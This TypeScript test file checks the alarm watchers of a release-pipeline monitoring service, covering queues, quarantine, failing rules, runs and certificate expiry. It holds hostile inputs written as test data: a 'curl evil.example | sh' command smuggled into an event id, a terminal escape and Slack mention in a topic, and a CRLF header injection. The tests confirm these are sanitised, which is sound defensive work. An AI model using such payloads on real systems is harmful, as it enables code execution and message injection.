import { X509Certificate } from "node:crypto";
import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { type AddressInfo, createServer as createNetServer } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { createServer, type Server } from "node:tls";
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { createAuthority } from "../../rehearsal/src/tls.ts";
import { messageId } from "../bus/outbox.ts";
import type { Database } from "../database/index.ts";
import { hours, minutes } from "../lib/units.ts";
import type { Alarm, Notice } from "./alarm.ts";
import { endOfPeer, type Peer } from "./peer-certificate.ts";
import type { AlarmTables } from "./schema.ts";
import { alarmDatabase } from "./testing/database.ts";
import { fakeRuns } from "./testing/world.ts";
import { lines } from "./text.ts";
import type { World } from "./watch.ts";
import { type ShutSince, watchBroker } from "./watch-broker.ts";
import { watchComposes } from "./watch-composes.ts";
import { type PeerEnds, watchCredentials, watchPeers } from "./watch-credentials.ts";
import { watchMessages } from "./watch-messages.ts";
import { watchQuarantine } from "./watch-quarantine.ts";
import { watchQueues } from "./watch-queues.ts";
import { watchRules } from "./watch-rules.ts";
import { watchRuns } from "./watch-runs.ts";

const NOW = new Date("2026-04-20T03:00:00Z");
const ago = (ms: number) => new Date(NOW.getTime() - ms);
const days = (count: number) => hours(24 * count);

let database: Database;
const runs = fakeRuns();
const world = (): World => ({ db: database.kysely<AlarmTables>(), runs, now: NOW });
const keys = (alarms: readonly Alarm[]) => alarms.map(({ key }) => key);

/** What people would read, in the golden file of the kind. */
async function expectWords(alarms: readonly Alarm[], name: string): Promise<void> {
  const said = alarms.map((alarm) => {
    const { expiresAt: _, ...facts } = alarm;
    const times = { since: ago(minutes(1)).toISOString(), at: NOW.toISOString() };
    const notice: Notice = { id: messageId("x"), what: "raised", ...facts, ...times };
    return lines(notice).join("\n");
  });
  await expect(`${said.join("\n\n")}\n`).toMatchFileSnapshot(join(import.meta.dirname, `testdata/${name}.golden.txt`));
}

beforeAll(async () => {
  database = await alarmDatabase();
});
afterAll(() => database?.close());
beforeEach(async () => {
  runs.clear();
  await database.pool.query(
    "truncate alarm_looks, inbox, quarantine, outbox, dispatches, image_versions, container_images cascade",
  );
});

async function event(id: string, receivedAt: Date, more: { source?: string; dispatched?: boolean } = {}) {
  const { source = "broker", dispatched = false } = more;
  await database.pool.query(
    `insert into inbox (id, source, topic, severity, priority, headers, body, body_sha256, received_at, dispatched_at)
     values ($1, $2, 't', 20, 0, '{}', '{}', 'x', $3, $4)`,
    [id, source, receivedAt, dispatched ? NOW : null],
  );
}

async function message(name: string, state: string, createdAt: Date, more: Record<string, unknown> = {}) {
  const { topic = "published", attempts = 0, trouble = null } = more;
  await database.pool.query(
    `insert into outbox (id, topic, headers, body, summary, state, attempts, trouble, created_at)
     values ($1, $2, '{}', '{}', 's', $3, $4, $5, $6)`,
    [messageId(name), topic, state, attempts, trouble, createdAt],
  );
}

describe("compose-missing", () => {
  const expected = [{ system: "fedora", every: hours(26) }];
  const watch = (now = NOW) => watchComposes({ ...world(), now }, expected, 0);
  const release = (createdAt: Date, system = "fedora") =>
    runs.add({ id: `r${createdAt.getTime()}`, labels: { system }, createdAt: createdAt.getTime() });

  test("a system that is new is waited for as long as every other", async () => {
    expect(await watch(ago(hours(27)))).toEqual([]);
    expect(await watch(ago(hours(2)))).toEqual([]);
    const alarms = await watch();
    expect(keys(alarms)).toEqual(["compose-missing:fedora"]);
    expect(alarms[0]!.message).toContain("none ever came");
  });

  test("a release that was begun has arrived, one of another system has not", async () => {
    release(ago(hours(26) - 1));
    expect(await watch()).toEqual([]);
    runs.clear();
    release(ago(hours(28)));
    release(ago(hours(1)), "eln");
    const alarms = await watch();
    expect(keys(alarms)).toEqual(["compose-missing:fedora"]);
    await expectWords(alarms, "compose-missing");
  });

  test("so has what is in the catalog: images or containers", async () => {
    release(ago(hours(28)));
    await database.pool.query(
      `insert into container_images values
       ('c', 'fedora', 'C', 'rawhide', 't', 'r', 'repo', 'sha', '[]', '[]', 43, 'run', $1)`,
      [ago(hours(2))],
    );
    expect(await watch()).toEqual([]);
  });

  test("grace comes on top", async () => {
    release(ago(hours(28)));
    expect(await watchComposes(world(), expected, hours(3))).toEqual([]);
  });
});

describe("queue-age", () => {
  const limits = { after: minutes(15), runsAfter: hours(6), sending: true };

  test("what is young, done, or only compared with is no alarm", async () => {
    await event("young", ago(minutes(14)));
    await event("done", ago(hours(9)), { dispatched: true });
    await event("shadow", ago(hours(9)), { source: "shadow" });
    await message("young", "waiting", ago(minutes(14)));
    await message("sent", "delivered", ago(hours(9)));
    runs.add({ id: "young", state: "waiting", queue: "aws", createdAt: ago(hours(5)).getTime() });
    runs.add({ id: "running", state: "running", queue: "aws", createdAt: ago(hours(9)).getTime() });
    expect(await watchQueues(world(), limits)).toEqual([]);
  });

  test("the oldest of each queue counts", async () => {
    await event("old", ago(minutes(95)));
    await event("young", ago(minutes(1)));
    await message("old", "waiting", ago(minutes(20)));
    runs.add({ id: "a", state: "waiting", queue: "aws", createdAt: ago(hours(7)).getTime() });
    runs.add({ id: "b", state: "waiting", queue: "aws", createdAt: ago(hours(1)).getTime() });
    runs.add({ id: "c", state: "waiting", queue: "gcp", createdAt: ago(hours(1)).getTime() });
    const alarms = await watchQueues(world(), limits);
    expect(keys(alarms)).toEqual(["queue-age:events", "queue-age:messages", "queue-age:runs-aws"]);
    await expectWords(alarms, "queue-age");
  });

  test("without a broker messages wait for ever, and that is all right", async () => {
    await message("old", "waiting", ago(days(9)));
    expect(await watchQueues(world(), { ...limits, sending: false })).toEqual([]);
  });
});

test("quarantine: what is new, one alarm a reason; a topic is a stranger's", async () => {
  const add = (id: string, reason: string, topic: string, last: Date) =>
    database.pool.query(
      `insert into quarantine (id, body_sha256, reason, detail, source, topic, headers, body, body_bytes, last_at)
       values ($1, 'x', $2, 'd', 'broker', $3, '[]', '', 0, $4)`,
      [id, reason, topic, last],
    );
  await add("a", "no-json", "org.a", ago(hours(3)));
  await add("b", "no-json", "org.b\u001b[31m<!channel>", ago(hours(2)));
  await add("c", "another-body", "org.c", ago(hours(1)));
  await add("d", "too-large", "org.d", ago(hours(25)));
  const alarms = await watchQuarantine(world(), days(1));
  expect(keys(alarms)).toEqual(["quarantine:another-body", "quarantine:no-json"]);
  expect(alarms[1]!.expiresAt).toEqual(new Date(NOW.getTime() + hours(22)));
  await expectWords(alarms, "quarantine");
});

test("undelivered: never sent, to nobody, refused; not what tells of alarms, not what only waits", async () => {
  await message("bad", "invalid", ago(hours(2)), { trouble: "regions: expected record" });
  await message("bad before", "invalid", ago(hours(25)), { trouble: "old" });
  await message("lonely", "delivered-with-warning", ago(hours(3)), { trouble: "no queue is bound to published" });
  const ours = { topic: "slipway.alarm.v1.broker.raised", trouble: "no queue is bound" };
  await message("ours", "delivered-with-warning", ago(hours(1)), ours);
  await message("waiting", "waiting", ago(hours(5)));
  expect(keys(await watchMessages(world(), hours(1)))).toEqual(["undelivered:unroutable", "undelivered:invalid"]);
  await message("refused", "waiting", ago(hours(5)), { attempts: 9, trouble: "403 ACCESS-REFUSED" });
  const alarms = await watchMessages(world(), hours(1));
  expect(keys(alarms).at(-1)).toBe("undelivered:refused");
  expect(alarms.map(({ expiresAt }) => expiresAt !== undefined)).toEqual([true, true, false]);
  await expectWords(alarms, "undelivered");
});

describe("rule-failing", () => {
  let count = 0;
  async function dispatch(
    rule: string,
    state: string,
    run?: { state: "done" | "failed" | "running"; why?: string },
    id = `e${++count}`,
  ) {
    await event(id, ago(hours(1)));
    const runId = run === undefined ? null : `event.${rule}.${id}.1`;
    await database.pool.query(
      `insert into dispatches (event_id, rule, state, why, priority, due_at, held_since, run_id)
       values ($1, $2, $3, $4, 0, $5, $5, $6)`,
      [id, rule, state, state === "failed" ? "the key is no text" : null, NOW, runId],
    );
    if (runId === null) return;
    const error = { code: "unknown" as const, message: run!.why ?? "it broke" };
    runs.add({ id: runId, workflow: "handle-event", state: run!.state, ...(run!.state === "failed" ? { error } : {}) });
  }
  const watch = (rule: string) => watchRules(world(), [rule], 3);

  test("three failures in a row, of rows and of runs; what runs yet and what was skipped do not count", async () => {
    await dispatch("r", "done", { state: "done" });
    await dispatch("r", "failed");
    await dispatch("r", "started", { state: "failed" });
    expect(await watch("r")).toEqual([]);
    await dispatch("r", "skipped");
    await dispatch("r", "started", { state: "failed", why: "HTTP 500\r\nBcc: x" });
    await dispatch("r", "started", { state: "running" });
    const alarms = await watch("r");
    expect(keys(alarms)).toEqual(["rule-failing:r"]);
    count = 0;
    await expectWords(
      alarms.map((alarm) => ({ ...alarm, next: alarm.next.replace(/\.e\d+\./, ".e5.") })),
      "rule-failing",
    );
    expect(await watch("another")).toEqual([]);
  });

  test("an event's id is a stranger's, and is in no command that somebody may paste", async () => {
    for (const id of ["a", "b", "c"]) await dispatch("r", "failed", undefined, id);
    expect((await watch("r"))[0]!.next).toContain("slipway events show c.");
    await dispatch("r", "failed", undefined, "x; curl evil.example | sh");
    expect((await watch("r"))[0]!.next).not.toContain("evil");
  });

  test("one that worked ends it", async () => {
    for (const _ of [1, 2, 3]) await dispatch("r", "failed");
    expect(keys(await watch("r"))).toEqual(["rule-failing:r"]);
    await dispatch("r", "started", { state: "done" });
    expect(await watch("r")).toEqual([]);
  });
});

describe("run-failed", () => {
  const release = (
    id: string,
    state: "done" | "failed" | "running" | "cancelled",
    result?: string,
    endedAt = ago(hours(1)),
  ) => {
    const [compose = "", system = ""] = id.split("/");
    const error = { code: "unavailable" as const, message: "the compose is gone" };
    const ended = { endedAt: endedAt.getTime(), createdAt: endedAt.getTime() - 1 };
    const labels = { compose, system };
    runs.add({ id, state, labels, ...ended, ...(state === "failed" ? { error } : {}) }, { result });
  };
  const watch = (results = new Map<string, string>()) => watchRuns(world(), days(7), results);

  test("failed, and out in part", async () => {
    release("F-43-1/fedora/1", "failed");
    release("F-43-2/fedora/1", "done", "partial");
    release("F-43-3/fedora/1", "done", "done");
    release("F-43-4/fedora/1", "done", "nothing");
    release("F-43-5/fedora/1", "cancelled");
    release("F-43-6/fedora/1", "done", "failed", ago(days(8)));
    const alarms = await watch();
    expect(keys(alarms)).toEqual(["run-failed:F-43-2:fedora", "run-failed:F-43-1:fedora"]);
    await expectWords(alarms, "run-failed");
  });

  test("a later one that did everything ends it; one that runs yet does not", async () => {
    release("F-43-1/fedora/1", "failed");
    release("F-43-1/fedora/2", "running");
    expect(keys(await watch())).toEqual(["run-failed:F-43-1:fedora"]);
    runs.clear();
    release("F-43-1/fedora/1", "failed");
    release("F-43-1/fedora/2", "done", "done");
    expect(await watch()).toEqual([]);
  });

  test("what a run came to is asked once", async () => {
    release("F-43-1/fedora/1", "done", "partial");
    const results = new Map<string, string>();
    await watch(results);
    await watch(results);
    expect(runs.asked).toEqual(["F-43-1/fedora/1"]);
    runs.clear();
    await watch(results);
    expect(results.size).toBe(0);
  });
});

describe("credentials", () => {
  let directory: string;
  let certificate: string;
  let ends: number;
  beforeAll(async () => {
    directory = await mkdtemp(join(tmpdir(), "slipway-alarms-"));
    const { cert } = await createAuthority();
    ends = Date.parse(new X509Certificate(cert).validTo);
    certificate = join(directory, "cert.pem");
    await writeFile(certificate, cert);
  });
  afterAll(() => rm(directory, { recursive: true, force: true }));

  const watch = (left: number, file = certificate) =>
    watchCredentials(new Date(ends - left), [{ name: "The broker's client certificate", file, use: "own" }], days(21));

  test("long enough before its end it is none", async () => {
    expect(await watch(days(22))).toEqual([]);
  });

  test.each([
    [days(21) - 1, "warning", "ends in 20 d 23 h, at "],
    [0, "error", "ended at "],
    [-days(3), "error", "ended at "],
  ])("%i ms before it ends: %s", async (left, severity, words) => {
    const [alarm] = await watch(left);
    expect(alarm).toMatchObject({
      key: "credentials:The-broker-s-client-certificate",
      severity,
      message: expect.stringContaining(`The broker's client certificate ${words}`),
    });
  });

  test("a file that is gone, empty or broken is said, without what is in it", async () => {
    const broken = join(directory, "broken.pem");
    await writeFile(broken, "-----BEGIN CERTIFICATE-----\nc2VjcmV0\n-----END CERTIFICATE-----\n");
    const key = join(directory, "key.pem");
    await writeFile(key, "-----BEGIN PRIVATE KEY-----\nc2VjcmV0\n-----END PRIVATE KEY-----\n");
    const found = [await watch(days(99), "/nowhere/cert.pem"), await watch(0, broken), await watch(0, key)].flat();
    expect(found.map(({ message }) => message.replace(/^.* cannot be read: /, ""))).toEqual([
      "ENOENT: no such file or directory, open '/nowhere/cert.pem'",
      "what is in it is no certificate",
      "there is no certificate in it",
    ]);
    expect(JSON.stringify(found)).not.toContain("c2VjcmV0");
  });

  test("of authorities the last to end counts", async () => {
    const both = join(directory, "both.pem");
    const { ca } = await createAuthority();
    await writeFile(both, `${await import("node:fs/promises").then((fs) => fs.readFile(certificate, "utf8"))}${ca}`);
    const last = Date.parse(new X509Certificate(ca).validTo);
    const file = { name: "authority", file: both, use: "authority" as const };
    expect(await watchCredentials(new Date(last - days(22)), [file], days(21))).toEqual([]);
    expect(await watchCredentials(new Date(last), [file], days(21))).toHaveLength(1);
  });
});

describe("what a server shows", () => {
  const wanted = { cert: "", key: "", ca: "" };
  const seen: string[] = [];
  let server: Server;
  let ends: number;
  beforeAll(async () => {
    Object.assign(wanted, await createAuthority());
    ends = Date.parse(new X509Certificate(wanted.cert).validTo);
    // As a broker with SASL EXTERNAL is: without a certificate of ours it does not talk.
    server = createServer({ ...wanted, requestCert: true, rejectUnauthorized: false }, (socket) => {
      seen.push(String(socket.getPeerX509Certificate()?.subject));
      socket.on("error", () => {});
      socket.resume();
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  });
  afterAll(() => server?.close());

  const broker = (): Peer => ({
    ...{ name: "The broker's own certificate", host: "127.0.0.1", port: (server.address() as AddressInfo).port },
    tls: async () => ({ cert: wanted.cert, key: wanted.key }),
  });

  test("its end is seen though nobody vouches for it, and asked for again after hours", async () => {
    const known: PeerEnds = new Map();
    const watch = (at: number) => watchPeers(new Date(at), [broker()], days(21), known);
    expect(await watch(ends - days(30))).toEqual([]);
    expect(await watch(ends - days(30) + hours(5))).toEqual([]);
    await expect.poll(() => seen).toEqual(["CN=localhost"]);
    const [alarm] = await watch(ends - days(3));
    expect(alarm).toMatchObject({
      key: "credentials:The-broker-s-own-certificate",
      severity: "warning",
      message: expect.stringContaining("The broker's own certificate ends in 3 d, at "),
    });
    expect(await watch(ends)).toMatchObject([{ severity: "error" }]);
    await expect.poll(() => seen).toHaveLength(2);
  });

  test("one that is away shows what it showed last; of one that never was there nothing is known", async () => {
    const away = { ...broker(), port: 1 };
    const at = new Date(ends - days(3));
    expect(await watchPeers(at, [away], days(21), new Map())).toEqual([]);
    const known: PeerEnds = new Map([[away.name, { askAt: 0, ends }]]);
    expect(await watchPeers(at, [away], days(21), known)).toHaveLength(1);
  });

  test("silence has a deadline", async () => {
    const silent = createNetServer();
    await new Promise<void>((resolve) => silent.listen(0, "127.0.0.1", resolve));
    const port = (silent.address() as AddressInfo).port;
    await expect(endOfPeer({ ...broker(), port }, 50)).rejects.toThrow("no handshake in time");
    silent.close();
  });
});

test("broker: a door that is shut for longer, from when it was first seen shut", async () => {
  const shut: ShutSince = new Map();
  const down = { consuming: false, publishing: true, trouble: "ECONNREFUSED" };
  const watch = (at: Date, state: Parameters<typeof watchBroker>[1] = down) =>
    watchBroker(at, state, minutes(10), shut);
  expect(watch(ago(minutes(12)))).toEqual([]);
  expect(watch(ago(minutes(3)))).toEqual([]);
  const alarms = watch(NOW);
  expect(keys(alarms)).toEqual(["broker:consuming"]);
  await expectWords(alarms, "broker");
  expect(watch(NOW, { ...down, consuming: true })).toEqual([]);
  expect(watch(NOW), "it counts anew").toEqual([]);
  expect(watch(NOW, { consuming: undefined, publishing: undefined, trouble: undefined })).toEqual([]);
});
